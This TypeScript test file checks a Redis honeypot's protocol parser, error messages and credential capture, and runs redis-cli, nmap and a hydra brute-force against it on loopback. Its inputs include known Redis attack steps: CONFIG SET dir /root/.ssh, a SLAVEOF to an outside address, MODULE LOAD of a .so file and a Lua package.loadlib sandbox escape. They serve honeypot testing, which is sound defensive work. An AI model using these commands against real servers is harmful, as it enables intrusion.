/**
 * The Redis honeypot: its RESP parser (bounded, never throwing), Redis's exact error texts and order of checks,
 * AUTH capture, and the real tools against it on loopback — redis-cli, `nmap -sV`, hydra. Tools missing fail
 * under CI=true (.ci/run installs redis-tools, nmap, hydra).
 */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { redisRelease } from '../../../src/honeynet/services/redis/redis-release.js';
import { RespParser, RESP_LIMITS, splitArgs } from '../../../src/honeynet/services/redis/redis-resp.js';
import { commandLine, redisService, unknownCommandError } from '../../../src/honeynet/services/redis/redis-service.js';
import { TEST_PERSONA } from '../persona-fixture.js';
import { authEvents, commandEvents, converse, FILES, LIMITS, missing, nmapServiceLine, run, SESSION, sleep } from './db-services-helper.js';
import { startTestService, type TestService } from './service-harness.js';
import { assertHydraAttempts } from './hydra-attempts.js';

const b = (s: string) => Buffer.from(s);
const strs = (items: ReturnType<RespParser['feed']>) => items.map((i) => (i.kind === 'command' ? i.args.map((a) => a.toString('latin1')) : `ERR:${i.message}`));

describe('RESP parser', () => {
  it('multibulk, inline (quotes, escapes), pipelined and split at every byte', () => {
    const wire = '*2\r\n$4\r\nECHO\r\n$5\r\nhe\r\no\r\nset k "a b\\x41\\n" \'it\\\'s\'\r\nPING\n\r\n';
    const whole = strs(new RespParser().feed(b(wire)));
    assert.deepEqual(whole, [['ECHO', 'he\r\no'], ['set', 'k', 'a bA\n', "it's"], ['PING']]);
    const p = new RespParser();
    const split = Buffer.from(wire).reduce<string[][]>((acc, byte) => [...acc, ...(strs(p.feed(Buffer.from([byte]))) as string[][])], []);
    assert.deepEqual(split, whole);
    assert.equal(p.buffered, 0);
  });

  it('protocol errors worded as Redis words them; the parser stops after one', () => {
    assert.deepEqual(strs(new RespParser().feed(b('*1\r\nx\r\n'))), ["ERR:Protocol error: expected '$', got 'x'"]);
    assert.deepEqual(strs(new RespParser().feed(b('*abc\r\n'))), ['ERR:Protocol error: invalid multibulk length']);
    assert.deepEqual(strs(new RespParser().feed(b(`*${RESP_LIMITS.maxArgs + 1}\r\n`))), ['ERR:Protocol error: invalid multibulk length']);
    assert.deepEqual(strs(new RespParser().feed(b(`*1\r\n$${RESP_LIMITS.maxBulk + 1}\r\n`))), ['ERR:Protocol error: invalid bulk length']);
    assert.deepEqual(strs(new RespParser().feed(b('set k "unterminated\r\n'))), ['ERR:Protocol error: unbalanced quotes in request']);
    const p = new RespParser();
    assert.deepEqual(strs(p.feed(Buffer.alloc(RESP_LIMITS.maxBuffer + 10, 0x61))), ['ERR:Protocol error: too big inline request']);
    assert.deepEqual(p.feed(b('PING\r\n')), []);
    assert.deepEqual(splitArgs(b('  a  "b c" ')), [b('a'), b('b c')]);
  });

  it('random bytes in random chunks: never throws, never holds more than its cap', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.uint8Array({ maxLength: 4096 }), fc.constantFrom(b('*3\r\n'), b('$100000\r\n'), b('"'), b('\r\n'), b('*1\r\n$524288\r\n'))), { maxLength: 40 }), (chunks) => {
        const p = new RespParser({ maxArgs: 16, maxBulk: 4096, maxBuffer: 8192 });
        for (const c of chunks) {
          p.feed(c);
          assert.ok(p.buffered <= 8192 + 4096 + 64, `buffered ${p.buffered}`);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('unknown command errors: 7.0 quotes, 6.0 backquotes, arguments cut at 128 bytes', () => {
    assert.equal(unknownCommandError([b('foo'), b('a'), b('b c')], 7), "ERR unknown command 'foo', with args beginning with: 'a' 'b c' ");
    assert.equal(unknownCommandError([b('foo'), b('a'), b('b')], 6), 'ERR unknown command `foo`, with args beginning with: `a`, `b`, ');
    assert.equal(unknownCommandError([b('x')], 7), "ERR unknown command 'x', with args beginning with: ");
    assert.equal(unknownCommandError([b('x'), b('y'.repeat(300))], 7), `ERR unknown command 'x', with args beginning with: '${'y'.repeat(128)}' `);
    assert.equal(commandLine([b('set'), b('k'), b('a b')]), 'set k "a b"');
    assert.equal(commandLine([b('x'.repeat(5000))]).length, 4096);
  });

  it('the release follows the persona OS', () => {
    assert.equal(redisRelease(TEST_PERSONA).version, '7.0.15');
    assert.equal(redisRelease({ ...TEST_PERSONA, os: { ...TEST_PERSONA.os, id: 'ubuntu', versionId: '24.04' } }).version, '7.0.15');
    assert.equal(redisRelease({ ...TEST_PERSONA, os: { ...TEST_PERSONA.os, id: 'ubuntu', versionId: '22.04' } }).version, '6.0.16');
  });
});

describe('Redis honeypot on loopback', () => {
  let locked: TestService;
  let open: TestService;
  before(async () => {
    locked = await startTestService(redisService(), { persona: TEST_PERSONA, settings: {}, limits: LIMITS, session: SESSION, ...FILES });
    open = await startTestService(redisService(), { persona: TEST_PERSONA, settings: { requireAuth: false, maxKeys: 3, maxDataBytes: 1000 }, limits: LIMITS, session: SESSION, ...FILES });
  });
  after(async () => {
    await locked?.close();
    await open?.close();
  });

  it('requirepass: unknown command and arity errors before NOAUTH (as Redis checks them), AUTH captured and refused', async () => {
    const r = await converse(locked.listener.address.port, ['PING\r\n', 'GET / HTTP/1.0\r\n\r\n', '*2\r\n$4\r\nAUTH\r\n$6\r\nsecret\r\n', 'AUTH admin hunter2\r\n', 'FOO bar\r\n', 'INFO\r\n', 'QUIT\r\n']);
    assert.deepEqual(r.replies.slice(1).map((x) => x.toString()), [
      '-NOAUTH Authentication required.\r\n',
      "-ERR wrong number of arguments for 'get' command\r\n",
      '-WRONGPASS invalid username-password pair or user is disabled.\r\n',
      '-WRONGPASS invalid username-password pair or user is disabled.\r\n',
      "-ERR unknown command 'FOO', with args beginning with: 'bar' \r\n",
      '-NOAUTH Authentication required.\r\n',
      '+OK\r\n',
    ]);
    assert.ok(r.closed);
    await sleep(100);
    const auths = authEvents(locked.events, 'redis').map((a) => [a.method, a.username, a.password, a.success]);
    assert.deepEqual(auths.slice(-2), [['password', 'default', 'secret', false], ['password', 'admin', 'hunter2', false]]);
    const cmds = commandEvents(locked.events, 'redis').map((c) => [c.input, c.known]);
    assert.deepEqual(cmds.slice(-7), [['PING', true], ['GET / HTTP/1.0', true], ['AUTH secret', true], ['AUTH admin hunter2', true], ['FOO bar', false], ['INFO', true], ['QUIT', true]]);
  });

  it('HTTP sent to Redis (POST, Host:) closes the connection, as Redis does', async () => {
    const r = await converse(locked.listener.address.port, ['POST / HTTP/1.1\r\nHost: x\r\n\r\n']);
    assert.ok(r.closed);
    assert.equal(r.all.length, 0);
  });

  it('an open Redis: INFO of the persona, CONFIG SET/GET per connection, SLAVEOF, MODULE LOAD, EVAL, capped keys', async () => {
    const port = open.listener.address.port;
    const r = await converse(port, [
      'CONFIG SET dir /root/.ssh\r\n', 'CONFIG GET dir\r\n', 'SLAVEOF 203.0.113.9 21000\r\n', 'MODULE LOAD /tmp/exp.so\r\n',
      'SET a 1\r\n', 'SET b 2\r\n', 'SET c 3\r\n', 'SET d 4\r\n', 'KEYS *\r\n', 'GET a\r\n', 'SELECT 16\r\n', 'FLUSHALL\r\n', 'DBSIZE\r\n',
      'EVAL "return 7" 0\r\n', 'EVAL "local io_l = package.loadlib(\'/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\', \'luaopen_io\')" 0\r\n',
      'AUTH x\r\n', 'CLIENT SETNAME bot\r\n', 'CLIENT GETNAME\r\n', 'CONFIG FOO\r\n',
    ]);
    const got = r.replies.slice(1).map((x) => x.toString());
    assert.deepEqual(got.slice(0, 14), ['+OK\r\n', '*2\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n', '+OK\r\n', '-ERR MODULE command not allowed. If the enable-module-command option is set to "local", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server.\r\n', '+OK\r\n', '+OK\r\n', '+OK\r\n', "-OOM command not allowed when used memory > 'maxmemory'.\r\n", '*3\r\n$1\r\na\r\n$1\r\nb\r\n$1\r\nc\r\n', '$1\r\n1\r\n', '-ERR DB index is out of range\r\n', '+OK\r\n', ':0\r\n', ':7\r\n']);
    assert.match(got[14]!, /^-ERR user_script:1: Script attempted to access nonexistent global variable 'package' script: [0-9a-f]{40}, on @user_script:1\.\r\n$/);
    assert.deepEqual(got.slice(15), ['-ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?\r\n', '+OK\r\n', '$3\r\nbot\r\n', "-ERR unknown subcommand 'FOO'. Try CONFIG HELP.\r\n"]);
    // A new connection sees none of it: nothing is shared or persisted.
    const again = await converse(port, ['CONFIG GET dir\r\n', 'GET a\r\n']);
    assert.deepEqual(again.replies.slice(1).map((x) => x.toString()), ['*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n', '$-1\r\n']);
  });

  it('a protocol error is answered and the connection closed', async () => {
    const r = await converse(locked.listener.address.port, [`*1\r\n$${RESP_LIMITS.maxBulk + 1}\r\n`]);
    assert.equal(r.all.toString(), '-ERR Protocol error: invalid bulk length\r\n');
    assert.ok(r.closed);
  });

  it('random bytes over the socket: every connection ends or answers, the service keeps serving', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.uint8Array({ maxLength: 2048 }), { maxLength: 6 }), async (chunks) => {
        await converse(locked.listener.address.port, chunks.map((c) => Buffer.from(c)), 5);
      }),
      { numRuns: 40 },
    );
    const r = await converse(locked.listener.address.port, ['PING\r\n']);
    assert.equal(r.replies[1]!.toString(), '-NOAUTH Authentication required.\r\n');
  });

  describe('redis-cli', { skip: missing('redis-cli', 'redis-tools') }, () => {
    it('PING → NOAUTH; -a → WRONGPASS, the password captured; an open server answers INFO of the persona', async () => {
      const port = String(locked.listener.address.port);
      const ping = await run('redis-cli', ['-p', port, 'PING']);
      assert.equal(ping.stdout.trim(), 'NOAUTH Authentication required.');
      const auth = await run('redis-cli', ['-p', port, '-a', 's3cr3t!', '--no-auth-warning', 'PING']);
      assert.match(auth.stdout + auth.stderr, /WRONGPASS invalid username-password pair or user is disabled\./);
      await sleep(100);
      assert.ok(authEvents(locked.events, 'redis').some((a) => a.username === 'default' && a.password === 's3cr3t!' && !a.success));
      const info = await run('redis-cli', ['-p', String(open.listener.address.port), 'INFO', 'server']);
      assert.match(info.stdout, /^# Server\r?\nredis_version:7\.0\.15\r?\n/);
      assert.match(info.stdout, new RegExp(`os:Linux ${TEST_PERSONA.kernel.release.replace(/\./g, '\\.')} x86_64`));
      const up = Number(/uptime_in_seconds:(\d+)/.exec(info.stdout)?.[1]);
      assert.ok(Math.abs(up - (Date.now() - TEST_PERSONA.bootTime) / 1000) < 60, `uptime ${up}`);
      const unknown = await run('redis-cli', ['-p', port, 'FLUSHEVERYTHING', 'now']);
      assert.equal(unknown.stdout.trim(), "ERR unknown command 'FLUSHEVERYTHING', with args beginning with: 'now'");
    });
  });

  describe('nmap -sV', { skip: missing('nmap', 'nmap') }, () => {
    it('names Redis on any port (from the arity error of its GET probe)', async () => {
      const line = await nmapServiceLine(locked.listener.address.port);
      assert.match(line, /open\s+redis\s+Redis key-value store/, line);
    });

    it("names the version from its INFO probe (sent to 6379 only, or at --version-intensity 8+): the answer matches nmap's own pattern", async () => {
      const probes = readFileSync('/usr/share/nmap/nmap-service-probes', 'latin1');
      const m = /^match redis m\|(\^\\\$[^|]*redis_version[^|]*)\|s p\/Redis key-value store\/ v\/\$1\//m.exec(probes);
      assert.ok(m, 'nmap has its redis_version match');
      // nmap's PCRE → JS: \r \n \d are the same; the (?:...) group too.
      const re = new RegExp(m[1]!, 's');
      const r = await converse(open.listener.address.port, ['*1\r\n$4\r\ninfo\r\n']);
      assert.equal(re.exec(r.replies[1]!.toString('latin1'))?.[1], '7.0.15');
    });
  });

  describe('hydra', { skip: missing('hydra', 'hydra') }, () => {
    it('hydra redis: every password tried is recorded', async () => {
      const passwords = ['123456', 'redis', 'pa ss', 'foobared', 'Ünï'];
      const file = join(locked.dir, 'pw.txt');
      writeFileSync(file, `${passwords.join('\n')}\n`);
      const before = authEvents(locked.events, 'redis').length;
      const r = await run('hydra', ['-I', '-P', file, '-t', '2', '-s', String(locked.listener.address.port), '127.0.0.1', 'redis'], { timeout: 120_000 });
      assert.match(r.stdout, /0 valid password/, r.stdout + r.stderr);
      await sleep(200);
      assertHydraAttempts(authEvents(locked.events, 'redis').slice(before).map((a) => a.password ?? '?'), passwords, r.stdout);
    });
  });
});
